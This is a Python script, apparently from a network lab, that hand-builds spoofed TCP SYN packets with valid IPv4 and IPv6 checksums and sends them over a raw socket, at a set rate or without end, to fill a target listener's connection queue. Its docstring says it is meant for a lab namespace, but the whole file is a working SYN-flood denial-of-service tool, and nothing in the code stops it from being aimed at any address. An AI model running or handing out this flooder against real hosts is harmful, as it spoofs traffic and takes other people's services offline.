"""Send spoofed TCP SYNs with a raw socket: the SYN flood half of the lab. Run as a script.

`python _synsend.py --family ipv4 --src 192.0.2.99 --dst 192.0.2.2 --port P --count N
[--rate R]` (count 0 = until SIGTERM). The source address is one nothing answers, so the
listener's SYN-ACKs go nowhere and its request queue fills, as in a real spoofed flood. It is
meant to run inside a lab network namespace (`ip netns exec`); it never picks addresses itself.
Headers are built by hand (IP_HDRINCL is implied by IPPROTO_RAW) with correct checksums.
"""

from __future__ import annotations

import argparse
import random
import signal
import socket
import struct
import sys
import time
from collections.abc import Callable

_stop = False


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def tcp_syn(sport: int, dport: int, pseudo_header: Callable[[int], bytes]) -> bytes:
    """A SYN with an MSS option, checksummed over `pseudo_header(tcp_length)` + the segment."""
    seq = random.getrandbits(32)
    options = b"\x02\x04\x05\xb4"  # MSS 1460, like a real client's first SYN
    offset = (5 + len(options) // 4) << 4
    head = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, offset, 0x02, 64240, 0, 0) + options
    csum = checksum(pseudo_header(len(head)) + head)
    return head[:16] + struct.pack("!H", csum) + head[18:]


def ipv4_packet(src: str, dst: str, sport: int, dport: int) -> bytes:
    s, d = socket.inet_aton(src), socket.inet_aton(dst)
    tcp = tcp_syn(sport, dport, lambda n: s + d + struct.pack("!BBH", 0, 6, n))
    ident = random.getrandbits(16)
    hdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), ident, 0x4000, 64, 6, 0, s, d)
    return hdr[:10] + struct.pack("!H", checksum(hdr)) + hdr[12:] + tcp


def ipv6_packet(src: str, dst: str, sport: int, dport: int) -> bytes:
    s, d = socket.inet_pton(socket.AF_INET6, src), socket.inet_pton(socket.AF_INET6, dst)
    # RFC 8200 8.1: the IPv6 pseudo-header has a 32-bit length, then zeros and next header.
    tcp = tcp_syn(sport, dport, lambda n: s + d + struct.pack("!I3xB", n, 6))
    hdr = struct.pack("!IHBB16s16s", 6 << 28, len(tcp), 6, 64, s, d)
    return hdr + tcp


def main() -> int:
    ap = argparse.ArgumentParser()
    ap.add_argument("--family", choices=["ipv4", "ipv6"], required=True)
    ap.add_argument("--src", required=True)
    ap.add_argument("--dst", required=True)
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--count", type=int, default=200, help="0: until SIGTERM")
    ap.add_argument("--rate", type=float, default=0.0, help="packets per second; 0: no pacing")
    args = ap.parse_args()

    def on_term(signum: int, frame: object) -> None:
        global _stop
        _stop = True

    signal.signal(signal.SIGTERM, on_term)
    signal.signal(signal.SIGINT, on_term)
    if args.family == "ipv4":
        sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        build = ipv4_packet
        dest: tuple[str, int] | tuple[str, int, int, int] = (args.dst, 0)
    else:
        sock = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW)
        build, dest = ipv6_packet, (args.dst, 0, 0, 0)
    print("ready", flush=True)
    sent = 0
    start = time.monotonic()
    while not _stop and (args.count == 0 or sent < args.count):
        pkt = build(args.src, args.dst, random.randint(1024, 65535), args.port)
        try:
            sock.sendto(pkt, dest)
            sent += 1
        except BlockingIOError:
            time.sleep(0.001)
        except OSError as e:  # e.g. ENOBUFS while the neighbour entry resolves
            print(f"warn {e}", file=sys.stderr, flush=True)
            time.sleep(0.01)
        if args.rate > 0:
            delay = start + sent / args.rate - time.monotonic()
            if delay > 0:
                time.sleep(delay)
    print(f"sent {sent}", flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
